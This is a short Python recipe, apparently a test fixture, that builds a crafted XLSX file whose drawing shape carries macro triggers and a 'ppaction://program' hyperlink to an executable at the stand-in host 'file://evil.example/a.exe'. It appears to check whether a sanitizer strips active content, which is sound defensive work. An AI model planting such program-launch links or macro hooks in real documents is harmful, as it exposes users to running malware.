# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit
from recipes_ooxml import *

DRAWING = 'xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"'
emit(xlsx(cell('A1', 'KEPT', kind=' t="str"'), sheet_extra='<drawing r:id="rId1"/>', sheet_rels=[('rId1', 'drawing', '../drawings/drawing1.xml')],
          parts={'xl/drawings/drawing1.xml': f'<xdr:wsDr {DRAWING} {A} {R}><xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
                 '<xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>4</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:sp macro="[0]!OOX27-MACRO-MARK" textlink="">'
                 '<xdr:nvSpPr><xdr:cNvPr id="2" name="b"><a:hlinkClick r:id="rId1" action="ppaction://program"><a:snd r:embed="rId2" name="OOX27-SOUND-MARK"/></a:hlinkClick>'
                 '<a:hlinkHover r:id="" action="ppaction://macro?name=OOX27-MACRO-MARK"/></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/>'
                 '<xdr:txBody><a:bodyPr/><a:p><a:r><a:t>BUTTON</a:t></a:r></a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>',
                 'xl/drawings/_rels/drawing1.xml.rels': relationships([('rId1', 'hyperlink', 'file://evil.example/a.exe', 'External'), ('rId2', 'audio', '../media/a.wav')]),
                 'xl/media/a.wav': b'RIFFOOX27-SOUND-MARK' * 4},
          types={'xl/drawings/drawing1.xml': 'application/vnd.openxmlformats-officedocument.drawing+xml'},
          more_types='<Default Extension="wav" ContentType="audio/wav"/>'))
